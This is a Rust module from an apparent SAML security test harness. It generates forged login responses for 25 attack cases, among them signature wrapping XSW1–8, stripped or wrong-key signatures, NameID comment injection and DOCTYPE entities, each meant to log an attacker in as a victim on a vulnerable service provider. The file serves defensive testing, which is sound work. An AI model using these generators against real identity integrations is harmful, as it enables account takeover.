//! The attack catalogue an SP's ACS must withstand (okta-saml §3): signature wrapping XSW1–8 as
//! SAML Raider numbers them, signature stripped, wrong certificate, tampering after signing,
//! comment injection in NameID, every time-window, audience, destination, recipient, issuer and
//! InResponseTo violation with an otherwise valid signature, two assertions, a non-success
//! status, a DOCTYPE with an entity, and SHA-1. Replay and InResponseTo reuse are flows, not
//! documents: the harness sends a valid response twice.
//!
//! Each case is crafted so that a correct SP refuses it, and so that a vulnerable SP would log
//! in the victim: the harness then reports who got logged in.

use time::{Duration, OffsetDateTime};

use super::dsig::SigAlg;
use super::idp::{IdpError, ResponseSpec, SamlApp, SamlUser, okta_id};
use super::keys::SigningKey;
use super::xml::{Element, NS_DS, NS_SAML, NS_SAMLP, Node, parse};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Attack {
    Xsw1,
    Xsw2,
    Xsw3,
    Xsw4,
    Xsw5,
    Xsw6,
    Xsw7,
    Xsw8,
    SignatureStripped,
    WrongCertificate,
    TamperedAfterSigning,
    CommentInjection,
    Expired,
    NotYetValid,
    SubjectConfirmationExpired,
    WrongAudience,
    NoAudience,
    WrongDestination,
    WrongRecipient,
    WrongIssuer,
    InResponseToMismatch,
    TwoAssertions,
    NonSuccessStatus,
    Doctype,
    Sha1,
}

impl Attack {
    pub const ALL: [Attack; 25] = [
        Attack::Xsw1,
        Attack::Xsw2,
        Attack::Xsw3,
        Attack::Xsw4,
        Attack::Xsw5,
        Attack::Xsw6,
        Attack::Xsw7,
        Attack::Xsw8,
        Attack::SignatureStripped,
        Attack::WrongCertificate,
        Attack::TamperedAfterSigning,
        Attack::CommentInjection,
        Attack::Expired,
        Attack::NotYetValid,
        Attack::SubjectConfirmationExpired,
        Attack::WrongAudience,
        Attack::NoAudience,
        Attack::WrongDestination,
        Attack::WrongRecipient,
        Attack::WrongIssuer,
        Attack::InResponseToMismatch,
        Attack::TwoAssertions,
        Attack::NonSuccessStatus,
        Attack::Doctype,
        Attack::Sha1,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::Xsw1 => "xsw1",
            Attack::Xsw2 => "xsw2",
            Attack::Xsw3 => "xsw3",
            Attack::Xsw4 => "xsw4",
            Attack::Xsw5 => "xsw5",
            Attack::Xsw6 => "xsw6",
            Attack::Xsw7 => "xsw7",
            Attack::Xsw8 => "xsw8",
            Attack::SignatureStripped => "signature-stripped",
            Attack::WrongCertificate => "wrong-certificate",
            Attack::TamperedAfterSigning => "tampered-after-signing",
            Attack::CommentInjection => "comment-injection",
            Attack::Expired => "expired",
            Attack::NotYetValid => "not-yet-valid",
            Attack::SubjectConfirmationExpired => "subject-confirmation-expired",
            Attack::WrongAudience => "wrong-audience",
            Attack::NoAudience => "no-audience",
            Attack::WrongDestination => "wrong-destination",
            Attack::WrongRecipient => "wrong-recipient",
            Attack::WrongIssuer => "wrong-issuer",
            Attack::InResponseToMismatch => "in-response-to-mismatch",
            Attack::TwoAssertions => "two-assertions",
            Attack::NonSuccessStatus => "non-success-status",
            Attack::Doctype => "doctype",
            Attack::Sha1 => "sha1",
        }
    }

    pub fn from_name(s: &str) -> Option<Attack> {
        Attack::ALL
            .into_iter()
            .find(|a| a.name().eq_ignore_ascii_case(s))
    }

    /// What the case sends, for reports.
    pub fn describe(self) -> &'static str {
        match self {
            Attack::Xsw1 => {
                "signed Response cloned into its own Signature; the outer Response, with a new ID, claims the victim"
            }
            Attack::Xsw2 => {
                "signed Response cloned before its Signature; the outer Response, with a new ID, claims the victim"
            }
            Attack::Xsw3 => "an unsigned Assertion for the victim inserted before the signed one",
            Attack::Xsw4 => "an unsigned Assertion for the victim wrapping the signed one",
            Attack::Xsw5 => {
                "the signed Assertion's position now claims the victim (new ID); an unsigned copy of the original at the end"
            }
            Attack::Xsw6 => {
                "the signed Assertion's position now claims the victim (new ID); the original copied inside its Signature"
            }
            Attack::Xsw7 => {
                "an unsigned Assertion for the victim inside Extensions before the signed one"
            }
            Attack::Xsw8 => {
                "the Assertion now claims the victim; the original copied into a ds:Object of its Signature"
            }
            Attack::SignatureStripped => "a valid response with every ds:Signature removed",
            Attack::WrongCertificate => "signed with another key, whose certificate is in KeyInfo",
            Attack::TamperedAfterSigning => {
                "the attacker's signed assertion with the NameID changed to the victim after signing"
            }
            Attack::CommentInjection => {
                "NameID victim<!---->.evil.example signed for the attacker (CVE-2017-11427 family)"
            }
            Attack::Expired => "validly signed, issued an hour ago, every NotOnOrAfter in the past",
            Attack::NotYetValid => "validly signed, Conditions NotBefore ten minutes in the future",
            Attack::SubjectConfirmationExpired => {
                "validly signed, SubjectConfirmationData NotOnOrAfter in the past"
            }
            Attack::WrongAudience => "validly signed for another SP's Audience",
            Attack::NoAudience => "validly signed without an AudienceRestriction",
            Attack::WrongDestination => "validly signed with another Destination",
            Attack::WrongRecipient => "validly signed with another Recipient",
            Attack::WrongIssuer => "signed with the trusted key but naming another IdP as Issuer",
            Attack::InResponseToMismatch => {
                "validly signed in response to an AuthnRequest the SP never sent"
            }
            Attack::TwoAssertions => {
                "two validly signed assertions, the victim's and the attacker's"
            }
            Attack::NonSuccessStatus => "validly signed with Status Responder",
            Attack::Doctype => "a DOCTYPE defining an entity that spells the victim's NameID",
            Attack::Sha1 => "a valid response signed with RSA-SHA1 and SHA-1 digests",
        }
    }
}

/// What a case needs: the trusted IdP (app and key), an untrusted key, the victim and the
/// attacker (a legitimate user of the IdP who wants to become the victim).
pub struct AttackInput<'a> {
    pub app: &'a SamlApp,
    pub key: &'a SigningKey,
    pub attacker_key: &'a SigningKey,
    pub victim: &'a SamlUser,
    pub attacker: &'a SamlUser,
    /// For SP-initiated flows: the AuthnRequest ID the SP issued.
    pub in_response_to: Option<&'a str>,
}

fn set_name_id(assertion: &mut Element, name_id: &str) {
    if let Some(subject) = assertion.child_mut(NS_SAML, "Subject")
        && let Some(n) = subject.child_mut(NS_SAML, "NameID")
    {
        n.set_text(name_id);
    }
    if let Some(stmt) = assertion.child_mut(NS_SAML, "AttributeStatement") {
        for attr in stmt.elements_mut() {
            if attr.attr("Name") == Some("email") {
                for v in attr.elements_mut() {
                    v.set_text(name_id);
                }
            }
        }
    }
}

fn remove_signatures(e: &mut Element) {
    e.children
        .retain(|n| !matches!(n, Node::Element(c) if c.is(NS_DS, "Signature")));
    for c in e.elements_mut() {
        remove_signatures(c);
    }
}

fn child_index(e: &Element, ns: &str, local: &str) -> Option<usize> {
    e.children
        .iter()
        .position(|n| matches!(n, Node::Element(c) if c.is(ns, local)))
}

fn assertion_node_index(resp: &Element) -> Option<usize> {
    child_index(resp, NS_SAML, "Assertion")
}

fn spec(input: &AttackInput<'_>, user: &SamlUser) -> ResponseSpec {
    ResponseSpec::for_user(input.app, user, input.in_response_to)
}

fn bad(msg: &str) -> IdpError {
    IdpError::Sign(msg.to_string())
}

/// Craft the response XML of one case.
pub fn craft(attack: Attack, input: &AttackInput<'_>) -> Result<String, IdpError> {
    let now = OffsetDateTime::now_utc();
    let key = input.key;
    let victim = input.victim;
    let simple = |f: &dyn Fn(&mut ResponseSpec)| -> Result<String, IdpError> {
        let mut s = spec(input, victim);
        f(&mut s);
        s.to_xml(key)
    };
    match attack {
        Attack::Expired => simple(&|s| {
            s.issue_instant = now - Duration::hours(1);
            s.not_before = now - Duration::minutes(65);
            s.not_on_or_after = now - Duration::minutes(55);
            s.subject_not_on_or_after = now - Duration::minutes(55);
        }),
        Attack::NotYetValid => simple(&|s| s.not_before = now + Duration::minutes(10)),
        Attack::SubjectConfirmationExpired => {
            simple(&|s| s.subject_not_on_or_after = now - Duration::minutes(10))
        }
        Attack::WrongAudience => {
            simple(&|s| s.audience = Some("https://evil.example/saml/metadata".into()))
        }
        Attack::NoAudience => simple(&|s| s.audience = None),
        Attack::WrongDestination => {
            simple(&|s| s.destination = Some("https://evil.example/saml/acs".into()))
        }
        Attack::WrongRecipient => simple(&|s| s.recipient = "https://evil.example/saml/acs".into()),
        Attack::WrongIssuer => simple(&|s| {
            s.response_issuer = "http://www.okta.com/exkEVILevilEVILevil0".into();
            s.assertion_issuer = s.response_issuer.clone();
        }),
        Attack::InResponseToMismatch => simple(&|s| {
            let id = format!("id-never-issued-{}", okta_id());
            s.in_response_to = Some(id.clone());
            s.session_index = id;
        }),
        Attack::NonSuccessStatus => {
            simple(&|s| s.status = "urn:oasis:names:tc:SAML:2.0:status:Responder".into())
        }
        Attack::Sha1 => simple(&|s| s.alg = SigAlg::RsaSha1),
        Attack::WrongCertificate => spec(input, victim).to_xml(input.attacker_key),
        Attack::SignatureStripped => {
            let mut doc =
                parse(&spec(input, victim).to_xml(key)?).map_err(|e| bad(&e.to_string()))?;
            remove_signatures(&mut doc);
            Ok(doc.to_xml())
        }
        Attack::TamperedAfterSigning => {
            let mut doc = parse(&spec(input, input.attacker).to_xml(key)?)
                .map_err(|e| bad(&e.to_string()))?;
            let i = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
            if let Node::Element(a) = &mut doc.children[i] {
                set_name_id(a, &victim.name_id);
            }
            Ok(doc.to_xml())
        }
        Attack::CommentInjection => {
            let mut attacker = input.attacker.clone();
            attacker.name_id = format!("{}.evil.example", victim.name_id);
            attacker.email = attacker.name_id.clone();
            let mut doc =
                parse(&spec(input, &attacker).to_xml(key)?).map_err(|e| bad(&e.to_string()))?;
            let i = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
            if let Node::Element(a) = &mut doc.children[i]
                && let Some(n) = a
                    .child_mut(NS_SAML, "Subject")
                    .and_then(|s| s.child_mut(NS_SAML, "NameID"))
            {
                n.children = vec![
                    Node::Text(victim.name_id.clone()),
                    Node::Comment(String::new()),
                    Node::Text(".evil.example".into()),
                ];
            }
            Ok(doc.to_xml())
        }
        Attack::Doctype => {
            let xml = spec(input, victim).to_xml(key)?;
            let entity_name = "who";
            let escaped = super::xml::escape_text(&victim.name_id);
            let with_entity = xml.replacen(
                &format!(">{escaped}</saml2:NameID>"),
                &format!(">&{entity_name};</saml2:NameID>"),
                1,
            );
            Ok(format!(
                "<!DOCTYPE saml2p:Response [<!ENTITY {entity_name} \"{}\">]>{with_entity}",
                victim.name_id.replace('"', "&quot;")
            ))
        }
        Attack::TwoAssertions => {
            let mut v = spec(input, victim);
            v.response_signed = false;
            v.assertion_signed = true;
            let mut a = spec(input, input.attacker);
            a.assertion_signed = true;
            let both = format!("{}{}", v.signed_assertion(key)?, a.signed_assertion(key)?);
            v.response_around(&both, key)
        }
        Attack::Xsw1 | Attack::Xsw2 => {
            // Response signed, assertion not: the signature covers the whole Response.
            let mut s = spec(input, input.attacker);
            s.response_signed = true;
            s.assertion_signed = false;
            let mut doc = parse(&s.to_xml(key)?).map_err(|e| bad(&e.to_string()))?;
            let scope = doc.scope_at(&[]);
            let mut clone = doc.clone();
            remove_signatures(&mut clone);
            clone.materialize_namespaces(&scope);
            doc.set_attr("ID", &okta_id());
            let ai = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
            if let Node::Element(a) = &mut doc.children[ai] {
                set_name_id(a, &victim.name_id);
                a.set_attr("ID", &okta_id());
            }
            let si = child_index(&doc, NS_DS, "Signature").ok_or_else(|| bad("no signature"))?;
            if attack == Attack::Xsw1 {
                if let Node::Element(sig) = &mut doc.children[si] {
                    sig.children.push(Node::Element(clone));
                }
            } else {
                doc.children.insert(si, Node::Element(clone));
            }
            Ok(doc.to_xml())
        }
        Attack::Xsw3 | Attack::Xsw4 | Attack::Xsw5 | Attack::Xsw6 | Attack::Xsw7 | Attack::Xsw8 => {
            // Assertion signed, response not.
            let mut s = spec(input, input.attacker);
            s.response_signed = false;
            s.assertion_signed = true;
            let mut doc = parse(&s.to_xml(key)?).map_err(|e| bad(&e.to_string()))?;
            let ai = assertion_node_index(&doc).ok_or_else(|| bad("no assertion"))?;
            let scope = doc.scope_at(&[doc
                .elements()
                .position(|e| e.is(NS_SAML, "Assertion"))
                .unwrap_or(0)]);
            let Node::Element(signed) = doc.children[ai].clone() else {
                return Err(bad("no assertion"));
            };
            let mut evil = signed.clone();
            remove_signatures(&mut evil);
            evil.materialize_namespaces(&scope);
            evil.set_attr("ID", &okta_id());
            set_name_id(&mut evil, &victim.name_id);
            let mut unsigned_original = signed.clone();
            remove_signatures(&mut unsigned_original);
            unsigned_original.materialize_namespaces(&scope);
            match attack {
                Attack::Xsw3 => doc.children.insert(ai, Node::Element(evil)),
                Attack::Xsw4 => {
                    let mut wrapper = evil;
                    let mut inner = signed;
                    inner.materialize_namespaces(&scope);
                    wrapper.children.push(Node::Element(inner));
                    doc.children[ai] = Node::Element(wrapper);
                }
                Attack::Xsw5 | Attack::Xsw6 | Attack::Xsw8 => {
                    let mut modified = signed;
                    modified.set_attr("ID", &okta_id());
                    set_name_id(&mut modified, &victim.name_id);
                    let si = child_index(&modified, NS_DS, "Signature")
                        .ok_or_else(|| bad("no signature"))?;
                    match attack {
                        Attack::Xsw5 => {
                            doc.children[ai] = Node::Element(modified);
                            doc.children.push(Node::Element(unsigned_original));
                        }
                        Attack::Xsw6 => {
                            if let Node::Element(sig) = &mut modified.children[si] {
                                sig.children.push(Node::Element(unsigned_original));
                            }
                            doc.children[ai] = Node::Element(modified);
                        }
                        _ => {
                            if let Node::Element(sig) = &mut modified.children[si] {
                                let object = Element {
                                    prefix: Some("ds".into()),
                                    local: "Object".into(),
                                    ns: Some(NS_DS.into()),
                                    ns_decls: vec![(Some("ds".into()), NS_DS.into())],
                                    attrs: vec![],
                                    children: vec![Node::Element(unsigned_original)],
                                };
                                sig.children.push(Node::Element(object));
                            }
                            doc.children[ai] = Node::Element(modified);
                        }
                    }
                }
                _ => {
                    let extensions = Element {
                        prefix: Some("saml2p".into()),
                        local: "Extensions".into(),
                        ns: Some(NS_SAMLP.into()),
                        ns_decls: vec![],
                        attrs: vec![],
                        children: vec![Node::Element(evil)],
                    };
                    doc.children.insert(ai, Node::Element(extensions));
                }
            }
            Ok(doc.to_xml())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::saml::xml::NS_SAML;

    fn user(n: &str) -> SamlUser {
        SamlUser {
            name_id: n.into(),
            email: n.into(),
            first_name: "F".into(),
            last_name: "L".into(),
            groups: vec![],
            custom: vec![],
        }
    }

    #[test]
    fn every_case_is_well_formed_xml_except_doctype_and_mentions_the_victim() {
        let app = SamlApp::new(
            "http://idp.test",
            "https://sp.test/acs",
            "https://sp.test/md",
        );
        let (key, other) = (SigningKey::test_fixture(), SigningKey::test_fixture_other());
        let (victim, attacker) = (user("alice@example.com"), user("mallory@example.com"));
        let input = AttackInput {
            app: &app,
            key: &key,
            attacker_key: &other,
            victim: &victim,
            attacker: &attacker,
            in_response_to: None,
        };
        for a in Attack::ALL {
            let xml = craft(a, &input).unwrap_or_else(|e| panic!("{}: {e}", a.name()));
            if a == Attack::Doctype {
                assert!(parse(&xml).is_err());
                continue;
            }
            let doc = parse(&xml).unwrap_or_else(|e| panic!("{}: {e}\n{xml}", a.name()));
            assert!(xml.contains("alice@example.com"), "{}", a.name());
            let assertions = doc.find_all(NS_SAML, "Assertion").len();
            let expected = match a {
                Attack::Xsw1
                | Attack::Xsw2
                | Attack::Xsw3
                | Attack::Xsw4
                | Attack::Xsw5
                | Attack::Xsw6
                | Attack::Xsw7
                | Attack::Xsw8
                | Attack::TwoAssertions => 2,
                _ => 1,
            };
            assert_eq!(assertions, expected, "{}", a.name());
            assert_eq!(Attack::from_name(a.name()), Some(a));
        }
    }
}
